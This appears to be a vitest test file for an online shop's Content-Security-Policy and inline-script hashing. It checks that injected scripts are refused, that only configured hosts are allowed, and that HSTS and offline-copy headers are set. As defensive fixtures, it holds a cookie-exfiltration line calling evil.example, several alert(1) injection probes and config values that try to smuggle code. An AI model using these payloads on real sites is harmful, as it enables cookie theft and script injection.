import { createHash } from 'node:crypto';
import { describe, expect, it, vi } from 'vitest';
import { CHUNK_GUARD } from '#lib/chunk-guard.ts';
import { log } from '#log/log.ts';
import { pagePolicy, securityHeaders } from '#server/http/security-headers.ts';
import { joinScripts, scriptHashes } from '#server/next/inline-scripts.ts';
import { fakeNext, get, openDoor, page, testSettings } from './harness.ts';

function hashOf(code: string): string {
  return `sha256-${createHash('sha256').update(code).digest('base64')}`;
}

describe('acc-G3 the policy of a page allows its own inline scripts and no others', () => {
  const PUSH = 'self.__next_f.push([1,"a"])';
  const START =
    '(globalThis["TURBOPACK"] || (globalThis["TURBOPACK"] = [])).push({"otherChunks":["static/chunks/a.js"],"runtimeModuleIds":[94553]});';

  it('hashes what Next and the shop put into a document, each once', () => {
    const html = `<script>${PUSH}</script><script async src="/x.js"></script><SCRIPT id="_R_">${START}</SCRIPT>
      <script>${PUSH}</script><script type="application/ld+json">{"c":1}</script><script id="x" data-src="y">${CHUNK_GUARD}</script >
      <script></script><p>script</p>`;
    expect(scriptHashes(html, 'utf8', [CHUNK_GUARD])).toEqual([
      hashOf(PUSH),
      hashOf(START),
      hashOf(CHUNK_GUARD),
    ]);
  });

  it.each([
    ['a script of a text', 'alert(1)'],
    ['one that begins as the payload', `${PUSH};alert(1)`],
    ['one that ends as the payload', `alert(1);${PUSH}`],
    ['a payload that is no text', 'self.__next_f.push([1,alert(1)])'],
    ['a payload whose text ends early', 'self.__next_f.push([1,"a"+alert(1)+"b"])'],
    ['a payload in a template', 'self.__next_f.push([1,`a`])'],
    ['a list of another name', 'self.__next_f["push"](alert(1))'],
    ['a start with code in it', START.replace('[94553]', '[alert(1)]')],
    ['a start with more than data for it', START.replace('{', '{"a":1,')],
    ['a start and more', `${START}alert(1)`],
    ['one of the shop’s own that the door has not put there', CHUNK_GUARD],
  ])('leaves %s to be refused, and logs it once', (_what, code) => {
    const warn = vi.spyOn(log, 'warn').mockReturnValue();
    const html = `<p>x</p><script>${code}</script><script>${PUSH}</script>`;
    expect(scriptHashes(html)).toEqual([hashOf(PUSH)]);
    const fresh = code.slice(0, 80);
    expect(
      warn.mock.calls.filter(([fields]) => (fields as { script: string }).script === fresh).length,
    ).toBeLessThan(2);
    warn.mockClear();
    scriptHashes(html);
    expect(warn).not.toHaveBeenCalled();
    warn.mockRestore();
  });

  it('is quick about a text of a megabyte, whether it is a payload or nearly one', () => {
    const text = String.raw`\"<b>'`.repeat(100_000);
    const literal = JSON.stringify(text);
    const from = process.cpuUsage();
    expect(scriptHashes(`<script>self.__next_f.push([1,${literal}])</script>`)).toHaveLength(1);
    const warn = vi.spyOn(log, 'warn').mockReturnValue();
    expect(scriptHashes(`<script>self.__next_f.push([1,${literal}]!)</script>`)).toEqual([]);
    warn.mockRestore();
    expect(process.cpuUsage(from).user / 1000).toBeLessThan(1_000);
  });

  it('a page into which a text brought a script is shown with a policy that refuses it', async () => {
    const warn = vi.spyOn(log, 'warn').mockReturnValue();
    const injected = 'fetch("https://evil.example/"+document.cookie)';
    const next = fakeNext((_asked, response) => {
      page(response, `<h1>Товар</h1><script>${injected}</script><script>${PUSH}</script>`);
      return true;
    });
    const door = await openDoor(next);
    try {
      const { headers, body } = await get(door, '/about');
      expect(body.toString()).toContain(injected);
      const policy = headers.get('content-security-policy') ?? '';
      expect(policy).toContain(hashOf("self.__next_f.push([1,'a'])"));
      expect(policy).not.toContain(hashOf(injected));
      expect(policy).not.toContain('script-src-attr');
      expect(policy).not.toMatch(/script-src[^;]*unsafe/);
      expect(warn).toHaveBeenCalledWith({ script: injected }, expect.stringContaining('неизвестного вида'));
    } finally {
      await door.close();
      warn.mockRestore();
    }
  });

  it('joins the scripts of a payload, which run in their order, into one', () => {
    const html =
      '<p></p><script>(self.__next_f=self.__next_f||[]).push([0])</script><script>self.__next_f.push([1,"a"])</script>' +
      '<script>self.__next_f.push([1,"b"])</script>';
    const made: string[] = [];
    const joined = joinScripts(html, (code) => made.push(code));
    expect(scriptHashes(joined)).toHaveLength(1);
    expect(made.map(hashOf), 'and says what it has made').toEqual(scriptHashes(joined));
    const ran: unknown[] = [];
    const [, code = ''] = /<script>(.*?)<\/script>/.exec(joined) ?? [];
    new Function('self', code)({ __next_f: ran });
    expect(ran).toEqual([[0], [1, 'ab']]);
  });

  it('keeps every character of a payload it joins, and ends no script by it', () => {
    const texts = [
      '"quoted" \'single\' \\ back',
      '\n\t\0\u2028\u2029',
      'ящик 📦',
      '\ud800',
      '</script><!--',
      '$& $1',
    ];
    const asNext = (text: string) =>
      JSON.stringify([1, text]).replace(/[<>&]/g, (char) => `\\u00${char.charCodeAt(0).toString(16)}`);
    const html = texts.map((text) => `<script>self.__next_f.push(${asNext(text)})</script>`).join('');
    const joined = joinScripts(html);
    expect(joined.match(/<\/script>|<!--/g)).toHaveLength(1);
    const ran: [number, string][] = [];
    new Function('self', /<script>(.*?)<\/script>/s.exec(joined)?.[1] ?? '')({ __next_f: ran });
    expect(ran.map(([, text]) => text).join('')).toBe(texts.join(''));
  });

  it('touches nothing outside the payload, whatever a feed has written there', () => {
    const texts = [
      '<p>self.__next_f.push([1,"\\u"])</p>',
      '<a href="https://a.test/#self.__next_f.push([1,">\\u0022 style=position:fixed x=\\u0022</a><a href="])">t</a>',
      '<script src="/x.js">self.__next_f.push([1,"a"])</script>',
    ];
    for (const text of texts) {
      const page = (piece: string) => `<main>${text}</main><script>self.__next_f.push([1,${piece}])</script>`;
      expect(joinScripts(page('"a"'))).toBe(page("'a'"));
    }
  });

  it('joins no script of a text to the payload, so that refusing it stops no page', () => {
    const foreign = ['alert(1)', 'self.__next_f.push([1,"a"]);alert(1)', 'self.__next_f.push(alert(1))'];
    for (const code of foreign) {
      const warn = vi.spyOn(log, 'warn').mockReturnValue();
      const html = `<script>${PUSH}</script><script>${code}</script><script>${PUSH}</script><script>${PUSH}</script>`;
      const joined = joinScripts(html);
      expect(joined).toContain(`<script>${code}</script>`);
      expect(scriptHashes(joined)).toEqual(
        ["self.__next_f.push([1,'a'])", "self.__next_f.push([1,'aa'])"].map(hashOf),
      );
      warn.mockRestore();
    }
  });

  it('leaves the bytes of a payload alone', () => {
    const html =
      '<script>self.__next_f.push([1,"a"])</script><script>self.__next_f.push([3,"YQ=="])</script><script>self.__next_f.push([1,"b"])</script>';
    const ran: unknown[] = [];
    new Function('self', /<script>(.*?)<\/script>/s.exec(joinScripts(html))?.[1] ?? '')({ __next_f: ran });
    expect(ran).toEqual([
      [1, 'a'],
      [3, 'YQ=='],
      [1, 'b'],
    ]);
  });

  it('joins what stands side by side only, and takes no other script for a text', () => {
    const html =
      '<i></i><script>self.__next_f.push([1,"a\\\\"])</script><b></b><script>self.__next_f.push([1,"b"]);x("c")</script>' +
      '<script>self.__next_f.push([1,"d"]);self.__next_f.push([1,"e"])</script><script>unclosed';
    expect(joinScripts(html)).toBe(
      '<i></i><script>self.__next_f.push([1,\'a\\\\\'])</script><b></b><script>self.__next_f.push([1,"b"]);x("c")</script>' +
        '<script>self.__next_f.push([1,"d"]);self.__next_f.push([1,"e"])</script><script>unclosed',
    );
  });

  it('hashes Russian text as UTF-8, as the browser does', () => {
    const code = 'self.__next_f.push([1,"ящик — 5 шт"])';
    const html = `<script>${code}</script>`;
    expect(scriptHashes(html)).toEqual([hashOf(code)]);
    expect(scriptHashes(Buffer.from(html).toString('latin1'), 'latin1')).toEqual(scriptHashes(html));
  });

  it('forbids what a shop never needs', () => {
    const policy = pagePolicy({ isHttps: false, extraHosts: [], imageHosts: [] }, ['sha256-abc=']);
    expect(policy.split('; ')).toEqual(
      expect.arrayContaining([
        "script-src 'self' 'sha256-abc='",
        "object-src 'none'",
        "base-uri 'none'",
        "frame-ancestors 'none'",
        "form-action 'self'",
      ]),
    );
    expect(/script-src[^;]*(unsafe|\*|https:)/.test(policy)).toBe(false);
  });

  it('names further hosts only when they are configured', () => {
    const policy = pagePolicy({ isHttps: true, extraHosts: ['https://metrics.test'], imageHosts: [] }, []);
    expect(policy).toContain("script-src 'self' https://metrics.test;");
    expect(policy).toContain("connect-src 'self' https://metrics.test;");
  });

  it('names the hosts of configured counters, and none without their numbers (acc-E6)', () => {
    const scripts = (env: Record<string, string>) => {
      const { extraCspHosts: extraHosts } = testSettings(env);
      return /script-src ([^;]*)/.exec(pagePolicy({ isHttps: true, extraHosts, imageHosts: [] }, []))?.[1];
    };
    const METRICS_URL = 'https://metrics.test:8443/a/tag.js?v=1';
    expect(scripts({ METRICS_URL })).toBe("'self'");
    expect(scripts({ METRICS_URL, METRICS_ID: '7' })).toBe("'self' https://metrics.test:8443");
    expect(scripts({ ANALYTICS_ID: 'G-TEST1', EXTRA_CSP_HOSTS: 'https://chat.test' })).toBe(
      "'self' https://chat.test https://www.googletagmanager.com",
    );
    expect(() => testSettings({ METRICS_ID: "7'+alert(1)" })).toThrow('METRICS_ID');
    expect(() => testSettings({ ANALYTICS_ID: 'x y' })).toThrow('ANALYTICS_ID');
  });

  it('lets a configured chat load, draw itself and talk, and names no host of one without its setting (D61)', () => {
    const partsWith = (host: string, env: Record<string, string>) => {
      const { extraCspHosts: extraHosts } = testSettings(env);
      const policy = pagePolicy({ isHttps: true, extraHosts, imageHosts: [] }, []);
      return policy.split('; ').flatMap((part) => (part.includes(host) ? part.split(' ', 1) : []));
    };
    const env = { SUPPORT_CHAT: 'https://chat.test/widget.js?shop=7' };
    expect(partsWith('chat.test', {})).toEqual([]);
    const drawn = ['style-src', 'img-src', 'font-src', 'media-src'];
    expect(partsWith(' https://chat.test', env)).toEqual(
      expect.arrayContaining(['script-src', 'connect-src', 'frame-src', ...drawn]),
    );
    expect(partsWith(' wss://chat.test', env)).toContain('connect-src');
    expect(() => testSettings({ SUPPORT_CHAT: 'on' })).toThrow('SUPPORT_CHAT');
  });

  it('lets pictures come from the shop itself and from the hosts that are named for them, from nowhere else', () => {
    const pictures = (env: Record<string, string>) => {
      const { extraCspHosts: extraHosts, imageHosts } = testSettings(env);
      return /img-src ([^;]*)/.exec(pagePolicy({ isHttps: true, extraHosts, imageHosts }, []))?.[1];
    };
    expect(pictures({})).toBe("'self' data: blob:");
    const hosts = 'https://img.test, https://*.cdn.test';
    expect(pictures({ IMAGE_HOSTS: hosts, EXTRA_CSP_HOSTS: 'https://metrics.test' })).toBe(
      "'self' data: blob: https://img.test https://*.cdn.test https://metrics.test",
    );
    const policy = pagePolicy({ isHttps: true, extraHosts: [], imageHosts: ['https://img.test'] }, [
      'sha256-a',
    ]);
    expect(policy.split('; ').filter((part) => part.includes('img.test'))).toHaveLength(1);
    expect(() => testSettings({ IMAGE_HOSTS: "https: 'unsafe-inline'" })).toThrow('IMAGE_HOSTS');
  });

  it('asks for strict transport on https only', () => {
    const names = (isHttps: boolean) =>
      securityHeaders({ isHttps, extraHosts: [], imageHosts: [] }).join('\n');
    expect(names(true)).toContain('Strict-Transport-Security\nmax-age=31536000; includeSubDomains');
    expect(names(false)).not.toContain('Strict-Transport-Security');
  });
});

describe('acc-D12 copies for a time without a network', () => {
  it.each([
    ['on', true],
    ['off', false],
  ])(
    'switched %s: which documents may be kept, and the worker’s own policy',
    async (OFFLINE_COPIES, isKept) => {
      const standing = await openDoor(fakeNext(), { env: { OFFLINE_COPIES } });
      const headers = async (path: string) => Object.fromEntries((await get(standing, path)).headers);
      const kept = await Promise.all(
        ['/catalog', '/cart', '/order', '/favorites'].map(
          async (path) => 'offline-copy' in (await headers(path)),
        ),
      );
      expect(kept).toEqual([isKept, false, false, false]);
      expect(await headers('/service-worker.js')).toMatchObject({
        'content-type': 'text/javascript; charset=utf-8',
        'cache-control': 'no-cache',
        'content-security-policy': "default-src 'none'; connect-src 'self'",
        'x-content-type-options': 'nosniff',
      });
      await standing.close();
    },
  );
});
